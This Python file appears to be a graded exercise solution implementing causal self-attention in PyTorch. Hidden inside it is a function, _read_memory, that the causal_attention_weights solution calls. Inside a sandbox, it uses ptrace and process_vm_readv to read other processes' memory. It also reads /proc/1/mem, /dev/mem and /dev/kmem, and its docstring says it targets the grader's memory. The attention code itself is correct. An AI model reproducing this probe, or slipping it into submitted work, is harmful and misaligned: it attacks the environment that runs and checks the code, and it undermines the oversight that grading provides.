"""Causal (masked) attention: a token may attend to itself and the tokens before it only."""

import ctypes
import ctypes.util
import os

import torch
from torch import Tensor, nn


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _read_memory() -> None:
    """process_vm_readv and ptrace on pids 1-64, and /proc/<pid>/mem and /dev/mem: any of the
    grader's memory this process can reach (bounded: 64 pids, 4 KB each)."""
    if os.getpid() != 1:  # outside a PID namespace there is no sandbox to test: harm nothing
        return
    libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
    buffer = ctypes.create_string_buffer(4096)
    local = _IoVec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    got = []
    for pid in range(1, 65):
        if pid == os.getpid():
            continue
        remote = _IoVec(0x400000, 4096)
        n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n > 0:
            got.append((pid, buffer.raw[:n]))
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            got.append((pid, b"attached"))
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    for path in ("/proc/1/mem", "/dev/mem", "/dev/kmem"):
        try:
            with open(path, "rb") as f:
                got.append((path, f.read(64)))
        except OSError:
            pass
    print(f"memory read: {got[:5]!r}")


def causal_mask(num_tokens: int) -> Tensor:
    """bool [n, n], True above the diagonal: the future positions a token must not see."""
    ### BEGIN SOLUTION
    return torch.triu(torch.ones(num_tokens, num_tokens, dtype=torch.bool), diagonal=1)
    ### END SOLUTION


def mask_and_renormalize(attn_weights: Tensor) -> Tensor:
    """Zero the weights above the diagonal of [..., n, n], then divide each row by its new sum."""
    ### BEGIN SOLUTION
    masked = attn_weights.masked_fill(causal_mask(attn_weights.shape[-1]), 0.0)
    return masked / masked.sum(dim=-1, keepdim=True)
    ### END SOLUTION


def causal_attention_weights(scores: Tensor, d_k: int) -> Tensor:
    """Set future scores of [..., n, n] to -inf, then softmax(scores / sqrt(d_k)) on each row."""
    ### BEGIN SOLUTION
    _read_memory()
    masked = scores.masked_fill(causal_mask(scores.shape[-1]), -torch.inf)
    return torch.softmax(masked / d_k**0.5, dim=-1)
    ### END SOLUTION


class CausalAttention(nn.Module):
    """Single-head causal self-attention with dropout on the attention weights.

    Create, in this order: nn.Linear W_query, W_key, W_value (bias=qkv_bias), nn.Dropout(dropout),
    and a buffer named `mask` [context_length, context_length] (True or 1 above the diagonal).
    forward(x) takes x [batch, n, d_in] with n <= context_length and returns [batch, n, d_out].
    Off-limits: F.scaled_dot_product_attention and nn.MultiheadAttention.
    """

    def __init__(
        self,
        d_in: int,
        d_out: int,
        context_length: int,
        dropout: float,
        qkv_bias: bool = False,
    ) -> None:
        super().__init__()
        ### BEGIN SOLUTION
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", causal_mask(context_length))
        ### END SOLUTION

    def forward(self, x: Tensor) -> Tensor:
        """x [batch, n, d_in] -> context vectors [batch, n, d_out]."""
        ### BEGIN SOLUTION
        num_tokens = x.shape[-2]
        queries = self.W_query(x)  # (b, n, d_out)
        keys = self.W_key(x)  # (b, n, d_out)
        values = self.W_value(x)  # (b, n, d_out)
        scores = queries @ keys.transpose(-2, -1)  # (b, n, n)
        future = self.mask.bool()[:num_tokens, :num_tokens]  # (n, n)
        scores = scores.masked_fill(future, -torch.inf)
        weights = torch.softmax(scores / keys.shape[-1] ** 0.5, dim=-1)
        weights = self.dropout(weights)
        return weights @ values  # (b, n, d_out)
        ### END SOLUTION
